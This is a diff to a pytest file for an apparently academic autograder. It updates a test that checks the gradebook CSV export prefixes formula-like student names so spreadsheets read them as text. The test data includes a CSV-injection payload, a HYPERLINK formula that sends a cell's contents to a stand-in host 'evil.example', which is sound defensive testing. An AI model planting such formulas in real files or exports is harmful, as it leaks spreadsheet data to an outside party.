@@ -10,6 +10,7 @@ Roster names that are spreadsheet formulas reach the CSV as text.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import os
 import socket
@@ -20,7 +21,7 @@ import time
 
 import pytest
 
-from autograder.service import auth, config, db, gradebook
+from autograder.service import auth, config, db, exports, scores
 from helpers.service import GRADE, api, course, free_port, new_course, page_login  # noqa: F401
 
 
@@ -255,16 +256,17 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@
 
 
 def test_gradebook_csv_neutralises_formulas_and_keeps_numbers():
+    counted = scores.TopicScore("prng", 1.5, 19.0, 1, dt.datetime(2026, 12, 1))
     rows = [
-        gradebook.Row(db.Student(login=f"s{i}", name=name, email=name), {"prng": 1.5}, 2)
+        scores.Standing(db.Student(login=f"s{i}", name=name, email=name), {"prng": counted}, 2)
         for i, name in enumerate([*FORMULAS, "\tTabbed", "\rReturn", "Ada Lovelace", "ada@example.org", "O'Neil"])
     ]
-    read = list(csv.DictReader(io.StringIO(gradebook.to_csv(rows, ["prng"]))))
+    read = list(csv.DictReader(io.StringIO(exports.gradebook_csv(rows, scores.outline(["prng"])))))
     names = [r["name"] for r in read]
     assert names[:7] == ["'" + n for n in [*FORMULAS, "\tTabbed", "\rReturn"]]
     assert names[7:] == ["Ada Lovelace", "ada@example.org", "O'Neil"]  # honest text is untouched
     assert [r["email"] for r in read] == names
-    assert {(r["prng"], r["total"], r["submissions"]) for r in read} == {("1.5", "1.5", "2")}
+    assert {(r["prng"], r["prng max"], r["total"], r["submissions"]) for r in read} == {("1.5", "19", "1.5", "2")}
 
 
 def test_a_roster_of_formulas_downloads_as_text(course, tmp_path):
